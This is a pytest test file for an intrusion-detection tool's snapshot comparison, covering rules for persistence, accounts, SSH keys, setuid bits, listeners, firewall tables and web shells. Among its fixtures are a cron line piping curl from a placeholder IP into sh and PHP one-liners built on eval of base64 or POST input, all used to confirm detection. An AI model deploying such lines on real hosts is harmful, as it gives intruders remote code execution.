"""What is found, how bad it is, and what must never be called an intruder's."""

from __future__ import annotations

import base64
import dataclasses
from pathlib import Path
from typing import Any

import pytest
from detected import POLICY, ROOT, SHELL, UP, file, found, only, snapshot

from ungcuu import detect
from ungcuu.detect import detectors
from ungcuu.detect.baseline import Snapshot
from ungcuu.detect.comparison import Comparison, Policy
from ungcuu.detect.findings import RULES, Severity, counts
from ungcuu.detect.running import listeners


def test_the_same_state_has_no_finding() -> None:
    """An alarm that cries on a clean host is switched off by the third week."""
    state = {
        "file": [file("/etc/nginx/nginx.conf", "system"), file(f"{ROOT}/index.php")],
        "account": [{"name": "root", "uid": "0", "gid": "0", "shell": "/bin/bash", "password": "set", "digest": "x"}],
        "listener": [
            {"proto": "tcp", "address": "198.51.100.2", "port": 80, "exe": "/usr/sbin/nginx", "comm": "nginx"}
        ],
    }
    assert found(snapshot(**state), snapshot(**state)) == []


def test_code_that_was_added_changed_or_removed() -> None:
    """Outside of the writable folders the document root is exactly what it was."""
    before = snapshot(file=[file(f"{ROOT}/index.php"), file(f"{ROOT}/a.html"), file(f"{ROOT}/gone.css")])
    now = snapshot(
        file=[
            file(f"{ROOT}/index.php", sha256="b" * 64),
            file(f"{ROOT}/a.html", mode=0o666),
            file(f"{ROOT}/thu-vien.php", marks=["php"]),
        ]
    )
    seen = {(item.rule, item.severity.value) for item in found(before, now)}
    assert seen == {
        ("web.changed", "high"),
        ("web.rights", "medium"),
        ("web.code-added", "high"),
        ("web.removed", "medium"),
    }


@pytest.mark.parametrize(
    ("path", "rule", "severity"),
    [
        ("/etc/cron.d/x", "persistence.cron", "high"),
        ("/var/spool/cron/crontabs/portal", "persistence.cron", "high"),
        ("/etc/systemd/system/x.service", "persistence.unit", "high"),
        ("/etc/systemd/system/ssh.service.d/x.conf", "persistence.unit", "high"),
        ("/etc/ld.so.preload", "persistence.preload", "critical"),
        ("/etc/sudoers.d/x", "access.sudo", "critical"),
        ("/etc/pam.d/sshd2", "access.login", "high"),
        ("/etc/profile.d/x.sh", "persistence.startup", "high"),
        ("/etc/nginx/conf.d/x.conf", "config.web", "high"),
        ("/etc/other.conf", "config.changed", "medium"),
        ("/var/www/html/x.php", "web.code-added", "high"),
    ],
)
def test_where_a_new_file_stands_says_what_it_does(path: str, rule: str, severity: str) -> None:
    """Each place from which something starts has its own rule."""
    assert only(found(snapshot(), snapshot(file=[file(path, "system")]))) == (rule, severity, path)


def test_job_that_fetches_a_program_is_critical() -> None:
    """A job that pipes the network into a shell is nobody's maintenance."""
    path = "/etc/cron.d/x"
    job = b"* * * * * root curl -s http://198.51.100.9/x | sh\n"
    assert only(found(snapshot(), snapshot(file=[file(path, "system")]), **{path: job}))[1] == "critical"


def test_a_lookalike_program_is_found_even_when_dpkg_agrees() -> None:
    """An intruder who is root edits dpkg's sums, too; the baseline still knows."""
    package = [{"name": "sudo", "architecture": "amd64", "version": "1"}]
    before = snapshot(file=[file("/usr/bin/sudo", "program", package="sudo", package_ok=True)], package=package)
    doctored = file("/usr/bin/sudo", "program", package="sudo", package_ok=True, sha256="b" * 64)
    assert only(found(before, snapshot(file=[doctored], package=package)))[:2] == ("program.modified", "critical")
    updated = snapshot(file=[doctored], package=[{**package[0], "version": "2"}])
    assert only(found(before, updated))[:2] == ("package.changed", "low")


def test_setuid_where_there_was_none() -> None:
    """One bit on an old program is a way back to root."""
    before = snapshot(file=[file("/usr/bin/find", "program", package="findutils", package_ok=True)])
    now = snapshot(file=[file("/usr/bin/find", "program", package="findutils", package_ok=True, mode=0o4755)])
    item = found(before, now)[0]
    assert (item.rule, item.severity, item.action["do"]) == ("privilege.file", Severity.CRITICAL, "set_mode")
    assert item.action["mode"] == 0o644


def key(path: str, account: str, digest: str) -> dict[str, Any]:
    return {"set": "key", "path": path, "sha256": digest, "account": account, "number": 1, "fingerprint": "SHA256:x"}


def test_each_new_key_by_itself() -> None:
    """One line is taken, the others stay: locking the operator out would be the intruder's success."""
    path = "/home/ungcuu/.ssh/authorized_keys"
    sudo = [
        {
            "set": "sudo",
            "path": "/etc/sudoers.d/u",
            "sha256": "s",
            "number": 1,
            "text": "ungcuu ALL=(root) NOPASSWD: ALL",
        }
    ]
    before = snapshot(line=[key(path, "ungcuu", "1" * 64), *sudo])
    now = snapshot(line=[key(path, "ungcuu", "1" * 64), key(path, "ungcuu", "2" * 64), *sudo])
    item = found(before, now)[0]
    assert (item.rule, item.severity.value) == ("access.key", "critical")
    assert item.action == {"do": "remove_lines", "path": path, "lines": ["2" * 64]}
    other = snapshot(line=[*before.of("line").values(), key("/home/a/.ssh/authorized_keys", "a", "2" * 64)])
    assert found(before, other)[0].severity is Severity.HIGH


def account(name: str, **more: str) -> dict[str, Any]:
    row = {"name": name, "uid": "1001", "gid": "1001", "home": "/home/x", "shell": "/bin/bash", "password": "set"}
    return row | {"digest": "d"} | more


def test_accounts() -> None:
    """Who may log in, and as whom."""
    before = snapshot(
        account=[account("root", uid="0"), account("a"), account("b")], group=[{"name": "sudo", "members": []}]
    )
    now = snapshot(
        account=[
            account("root", uid="0"),
            account("a", home="/tmp"),
            account("toor", uid="0"),
            account("new"),
            account("was", password="locked", digest="") | {"shell": "/usr/sbin/nologin"},
        ],
        group=[{"name": "sudo", "members": ["a"]}],
    )
    seen = {(item.rule, item.severity.value, item.path) for item in found(before, now)}
    assert seen == {
        ("account.root", "critical", "toor"),
        ("account.added", "high", "new"),
        ("account.locked", "low", "was"),
        ("account.changed", "high", "a"),
        ("account.removed", "medium", "b"),
        ("account.member", "critical", "sudo: a"),
    }


def test_our_own_files_are_excused_by_content_only() -> None:
    """The isolation's unit is no intruder's; a file that took its name is."""
    path = "/etc/systemd/system/ungcuu-isolation.service"
    wish = "/etc/systemd/system/multi-user.target.wants/ungcuu-isolation.service"
    link = file(wish, "system", type="link", target=path, sha256="")
    policy = dataclasses.replace(POLICY, expected={path: "a" * 64})
    assert found(snapshot(), snapshot(file=[file(path, "system"), link]), policy) == []
    taken = snapshot(file=[file(path, "system", sha256="b" * 64), link])
    assert {item.path for item in found(snapshot(), taken, policy)} == {path, wish}


VAULT_FILES = (
    "/etc/ssh/sshd_config.d/50-ungcuu-backup.conf",
    "/etc/ssh/ungcuu-backup.keys",
    "/etc/sudoers.d/ungcuu-backup",
)


@pytest.mark.parametrize("changed", ["", *VAULT_FILES, "password", "shell", "uid", "home"])
def test_the_vault_s_account_is_ours_only_as_it_was_made(changed: str) -> None:
    """A first backup after the baseline must not read as an intruder's, nor its name serve one.

    Seen failing with each of the conditions of `_is_vault_account` taken out.
    """
    row = account("ungcuu-backup", home="/nonexistent", password="locked", digest="") | {"shell": "/bin/sh"}
    row |= {"password": {"password": "set"}, "shell": {"shell": "/bin/bash"}, "uid": {"uid": "33"},
            "home": {"home": "/tmp"}}.get(changed, {})  # fmt: skip
    files = [file(path, "system", sha256=("b" if path == changed else "a") * 64) for path in VAULT_FILES]
    policy = dataclasses.replace(POLICY, expected=dict.fromkeys(VAULT_FILES, "a" * 64))
    web = account("www-data", uid="33")
    seen = found(snapshot(account=[web]), snapshot(account=[web, row], file=files), policy)
    assert any(item.rule == "account.added" for item in seen) == bool(changed)
    assert (seen == []) == (not changed)


def test_packages_that_ungcuu_installed_are_expected() -> None:
    """The first backup installs restic; another version of it, or a package of somebody else, is shown."""
    nginx, restic = ({"name": name, "architecture": "amd64", "version": "1"} for name in ("nginx", "restic"))
    before, now = snapshot(package=[nginx]), snapshot(package=[nginx, restic])
    policy = dataclasses.replace(POLICY, expected={"package:restic": "1"})
    assert found(before, now, policy) == []
    other = dataclasses.replace(POLICY, expected={"package:restic": "2"})
    assert [item.rule for item in found(before, now, other)] == ["package.changed"]


OWN = f"{ROOT}/data/config/settings.php"


SETTINGS = b"<?php\nif (!defined('NV_MAINFILE')) {\n    exit('Stop!!!');\n}\n$config['site_name'] = 'Portal';\n"


@pytest.mark.parametrize(
    ("path", "data", "baseline", "rules"),
    [
        (OWN, SETTINGS, False, []),
        (OWN, SHELL, False, ["upload.code"]),
        (OWN, b"", False, ["upload.code"]),
        (OWN, SETTINGS, True, ["upload.code"]),
        (f"{ROOT}/data/config-x/a.php", SETTINGS, False, ["upload.code"]),
        (f"{UP}/a.php", SETTINGS, False, ["upload.code"]),
    ],
)
def test_a_first_baseline_takes_the_php_that_an_application_writes(
    path: str, data: bytes, baseline: bool, rules: list[str]
) -> None:
    """A stock NukeViet had 13 critical findings before anybody had touched it; a web shell there still is one.

    Seen failing with each condition of `first` and of what follows it taken out.
    """
    folder = f"{ROOT}/data/config"
    policy = dataclasses.replace(POLICY, writable=(UP, f"{ROOT}/data"), code=(folder,))
    now = snapshot(file=[file(path, "upload", marks=["php"])])
    seen = found(snapshot() if baseline else None, now, policy, **{path: data})
    assert [item.rule for item in seen if item.path == path] == rules


def test_masks() -> None:
    """The mask that eradication leaves is no finding; a guard that was masked is."""
    mask = file("/etc/systemd/system/helper.path", "system", type="link", target="/dev/null", sha256="")
    assert found(snapshot(), snapshot(file=[mask])) == []
    guard = file("/etc/systemd/system/auditd.service", "system", type="link", target="/dev/null", sha256="")
    units = [
        {
            "name": "auditd.service",
            "state": "enabled",
            "active": "active",
            "path": "/usr/lib/systemd/system/auditd.service",
        }
    ]
    masked = [units[0] | {"state": "masked", "active": "inactive"}]
    seen = found(snapshot(unit=units), snapshot(unit=masked, file=[guard]))
    assert {item.severity for item in seen} == {Severity.HIGH}


def test_listeners_and_processes() -> None:
    """A door that was closed, and a program that hides."""
    door = {
        "proto": "tcp",
        "address": "198.51.100.2",
        "port": 4444,
        "exe": "/usr/bin/python3.11",
        "comm": "python3",
        "uid": 0,
    }
    ghost = {
        "pid": 7,
        "start": "1",
        "exe": "/tmp/.x (deleted)",
        "comm": ".x",
        "uid": 0,
        "deleted": True,
        "replaced": False,
    }
    worker = {"pid": 8, "start": "1", "exe": "", "comm": "php-fpm8.2", "uid": 999, "deleted": False, "website": True}
    shell = {
        "pid": 9,
        "start": "1",
        "exe": "/usr/bin/dash",
        "comm": "sh",
        "uid": 999,
        "deleted": False,
        "website": True,
    }
    seen = found(snapshot(), snapshot(listener=[door], process=[ghost, worker, shell]))
    assert {(item.rule, item.severity.value) for item in seen} == {
        ("listener.added", "high"),
        ("process.hidden", "critical"),
        ("process.website", "high"),
    }


@pytest.mark.parametrize(
    ("changed", "severity"),
    [
        ({}, "low"),
        ({"mode": "full"}, "high"),
        ({"port": 4444}, "high"),
        ({"unit": "system.slice/x.service"}, "high"),
        ({"script": "-"}, "high"),
        ({"exe": "/usr/bin/php8.2"}, "high"),
        ({"sha256": "b" * 64}, "high"),
        ({"proto": "udp"}, "high"),
        ({"proto": "tcp6"}, "low"),
        ({"holder": "system.slice/x.service"}, "high"),
        ({"holder": ""}, "high"),
    ],
)
def test_the_notice_of_a_website_under_maintenance_is_no_stranger(changed: dict[str, Any], severity: str) -> None:
    """Each scan of a host in maintenance named it as high. Seen failing without it, and with the unit's name alone.

    Seen failing, too, where any Python at the port passed as the notice while the notice ran, and any protocol.
    """
    notice, unit = "/etc/ungcuu/maintenance.py", "/etc/systemd/system/ungcuu-maintenance.service"
    door = {"proto": "tcp", "address": "::", "port": 80, "exe": "/usr/bin/python3.11", "comm": "python3", "uid": 0}
    program = {"pid": 7, "start": "1", "exe": "/usr/bin/python3.11", "comm": "python3", "uid": 0, "deleted": False,
               "script": notice,
               "unit": "system.slice/ungcuu-maintenance.service"} | {
        name: value for name, value in changed.items() if name in ("unit", "script", "exe")}  # fmt: skip # a table
    door |= {name: value for name, value in changed.items() if name in ("port", "proto")}
    door["unit"] = changed.get("holder", program["unit"])
    files = [file(notice, "system", sha256=changed.get("sha256", "a" * 64)), file(unit, "system", sha256="c" * 64)]
    now = snapshot(listener=[door], process=[program], file=files)
    known = {notice: "a" * 64, unit: "c" * 64}
    policy = Policy("web01", ROOT, expected=known, isolation=changed.get("mode", "maintenance"))
    (found,) = listeners(Comparison(policy, snapshot(), now))
    assert found.severity.value == severity


def test_code_in_an_applications_settings_is_no_mere_change() -> None:
    """Debian keeps MediaWiki's settings below /etc: what is put in there runs in every page."""
    path = "/etc/mediawiki/LocalSettings.php"
    before, now = snapshot(file=[file(path, "system")]), snapshot(file=[file(path, "system", sha256="b" * 64)])
    assert detectors.interesting(Comparison(POLICY, before, now)) == [path]
    for text, severity in (("<?php eval(base64_decode('x'));", "high"), ("<?php $wgSitename = 'x';", "medium")):
        contents = {path: base64.b64encode(text.encode()).decode()}
        seen = detectors.detect(Comparison(POLICY, before, now, contents))
        assert [(item.rule, item.severity.value) for item in seen] == [("config.changed", severity)]


def test_an_incomplete_reading_is_a_finding() -> None:
    """Silence is not innocence."""
    now = snapshot()
    now.problems.append("limit: web")
    assert only(found(snapshot(), now))[:2] == ("reading.incomplete", "high")


def test_without_a_baseline_the_plain_signs_are_still_found() -> None:
    """The first scan of a host that nobody prepared must still find the web shell."""
    path = f"{UP}/a.php"
    now = snapshot(
        file=[file(path, "upload", marks=["php"]), file("/etc/x", "system")], account=[account("toor", uid="0")]
    )
    assert [item.rule for item in found(None, now, **{path: SHELL})] == [
        "account.root",
        "upload.code",
        "baseline.missing",
    ]


def test_findings_are_stable_bounded_and_neutral() -> None:
    """The id names the same thing in every scan; what a host chose can't reach a screen as it came."""
    path = f"{UP}/a.php"
    now = snapshot(file=[file(path, "upload", marks=["php"])])
    first, second = (found(snapshot(), now, **{path: b"<?php \x1b]0;x\x07" + b"A" * 9000})[0] for _ in range(2))
    assert first.id == second.id and len(first.id) == 16
    assert "\x1b" not in str(first.document()) and len(first.seen) < 500
    assert counts([first])["critical"] == 1


def test_evidence_is_cleaned_too() -> None:
    """A process chooses its own arguments, a link its own target."""
    ghost = {
        "pid": 7,
        "start": "1",
        "exe": "/tmp/\x1b[2J",
        "comm": "x",
        "uid": 0,
        "deleted": False,
        "argv": "\u202e" * 9999,
    }
    item = found(snapshot(), snapshot(process=[ghost]))[0]
    text = repr(item.evidence) + item.seen + item.path
    assert "\x1b" not in text and "\u202e" not in text and len(text) < 6000


def test_any_records_can_be_compared() -> None:
    """Whatever a lying host makes up, the comparison ends, its findings can be written, and orders come of them."""
    import json
    import random

    from ungcuu.detect.baseline import parse
    from ungcuu.detect.records import SCHEMA
    from ungcuu.recover import quarantine

    chance = random.Random(7)  # noqa: S311
    words = ["", "/", "..", "-1", "é", "%s{{ x }}", "::1", "0", "root", "a" * 64, "x.service", "links=9 hidden=1"]
    words += ["file", "link", "dir", "key", "cron", "sudo", "enabled", "active", "content", "administrator"]
    words += ["web", "upload", "system", "home", "program", "privileged", "temporary"]
    words += [UP + "/a.php", ROOT + "/x.php", "/etc/cron.d/x", "/etc/systemd/system/x.service", "/dev/null"]
    words += ["/usr/bin/x", "/tmp/x (deleted)", "/home/a/.bashrc"]
    makers = {
        str: lambda: chance.choice(words),
        int: lambda: chance.choice([0, -1, 7, 0o4755, 1 << 62]),
        bool: lambda: chance.random() < 0.5,
        float: lambda: 1.5,
        list: lambda: chance.sample(words, 3),
        dict: lambda: {chance.choice(words): "00"},
    }

    def made() -> Snapshot:
        rows = []
        for _ in range(400):
            kind = chance.choice([name for name in SCHEMA if name != "end"])
            fields = {name: makers[type_]() for name, type_ in SCHEMA[kind].items() if chance.random() < 0.9}
            rows.append(json.dumps(fields | {"k": kind}).encode())
        return parse([*rows, b'{"k":"end","seconds":1}'])

    for _ in range(60):
        before, now = made(), made()
        seen = found(chance.choice([None, before]), now, **{UP + "/a.php": SHELL})
        rows = [json.loads(json.dumps(item.document())) for item in seen]
        orders = quarantine.plan({"findings": rows}, quarantine.Choice(kill=True), before, "20260101T000000Z").orders
        json.dumps([order.wire() for order in orders])


def test_every_rule_in_use_is_in_the_catalogue() -> None:
    """A rule without a text would be a finding that nobody understands."""
    import re

    sources = [file.read_text("utf-8") for file in Path(detect.__file__).parent.glob("*.py")]
    used = {rule for text in sources for rule in re.findall(r'"([a-z]+\.[a-z-]+)"', text)}
    files = {word for word in used if word.endswith((".json", ".list", ".timer"))}
    assert used - files - {"ungcuu.remote"} <= set(RULES)
    assert {"upload.code", "persistence.unit"} <= used


_CLOSED = (
    "chain input { type filter hook input priority raw; policy drop; meta iiftype loopback accept "
    "ip saddr @management_ipv4 tcp dport 22 accept counter drop }"
)


_TOO_BIG = "icmp type destination-unreachable icmp code"


@pytest.mark.parametrize(
    ("text", "mode", "severity"),
    [
        (_CLOSED, "full", "low"),
        (_CLOSED, "", "high"),  # nobody cut this host off
        *(  # as nft 1.0.6 (Debian 12) and 1.1.3 (Debian 13) list the same rule
            (_CLOSED.replace("counter", f"{_TOO_BIG} {code} limit rate 10/second accept counter"), "full", "low")
            for code in ("frag-needed", "4")
        ),
        (_CLOSED.replace("policy drop", "policy accept"), "full", "high"),
        *(
            (_CLOSED.replace("counter drop", rule), "full", "high")
            for rule in (
                "accept",
                "ip saddr 203.0.113.9 accept",
                "ip daddr set 203.0.113.9 accept",
                "tcp dport set 22 accept",
                "notrack accept",
                "meta mark set 1 accept",
                "tcp dport { 80, 443 } accept",
                "redirect",
            )
        ),
        (_CLOSED.replace("counter drop", "tcp dport { 80, 443 } accept"), "maintenance", "low"),
        (_CLOSED.replace("counter drop", "tcp dport { 25, 443 } accept"), "maintenance", "high"),
    ],
)
def test_the_isolation_s_table_excuses_no_other_rule_and_nobody_is_told_to_delete_it(
    text: str, mode: str, severity: str
) -> None:
    """A scan of an isolated host advised `nft delete table inet ungcuu_isolation`.

    Root on the host could otherwise open the isolation under its own name. Seen failing where the name, or a policy of
    drop, was enough.
    """
    from ungcuu.detect.facts import packet_filters

    table = {"set": "filter", "name": "inet ungcuu_isolation", "detail": "x", "text": text, "source": ""}
    before, now = snapshot(), snapshot(fact=[table])
    (found,) = packet_filters(Comparison(Policy("web01", "/var/www/portal", isolation=mode), before, now))
    assert found.severity.value == severity
    assert list(found.commands) == ["ungcuu isolate web01"]


def test_code_of_the_application_s_own_behind_a_link_is_taken_into_a_first_baseline() -> None:
    """Seen failing: no baseline could be signed where pages are compiled to PHP beside the web root."""
    policy = Policy("web01", ROOT, (f"{ROOT}/sites/a/tmp",), code=(f"{ROOT}/sites/a/tmp",))
    links = [
        {"path": f"{ROOT}/sites", "type": "link", "area": "web", "mode": 0o777, "uid": 0, "gid": 0, "target": "/data"},
        {"path": "/data/a", "type": "link", "area": "web", "mode": 0o777, "uid": 0, "gid": 0, "target": "../files/a"},
    ]
    pages = {"/files/a/tmp/page.php": b"<?php echo 'trang';", "/files/a/tmp/x.php": b"<?php eval($_POST['x']);"}
    rows = [
        {"path": path, "type": "file", "area": "upload", "mode": 0o644, "uid": 33, "gid": 33, "marks": ["php"]}
        for path in (*pages, "/data/tmp/page.php")
    ]
    now = snapshot(file=[*links, *rows])
    contents = {path: base64.b64encode(data).decode() for path, data in pages.items()}
    contents["/data/tmp/page.php"] = contents["/files/a/tmp/page.php"]
    found = detectors.detect(Comparison(policy.behind_links(now), None, now, contents))
    code = sorted(one.path for one in found if one.rule == "upload.code")
    assert code == ["/data/tmp/page.php", "/files/a/tmp/x.php"]
    again = Comparison(dataclasses.replace(policy, generated=policy.code).behind_links(now), snapshot(), now, contents)
    later = sorted(one.path for one in detectors.detect(again) if one.rule == "upload.code")
    assert later == code, "what is compiled anew is judged by its content. Seen failing: each page was critical"
    known = Comparison(policy.behind_links(now), snapshot(), now, contents)
    assert len([one for one in detectors.detect(known) if one.rule == "upload.code"]) == 3, (
        "only where it is said to be"
    )
    stolen = snapshot(file=[{**links[0], "uid": 33}, links[1], *rows])
    assert policy.behind_links(stolen).code == policy.code, "whose link it is decides"
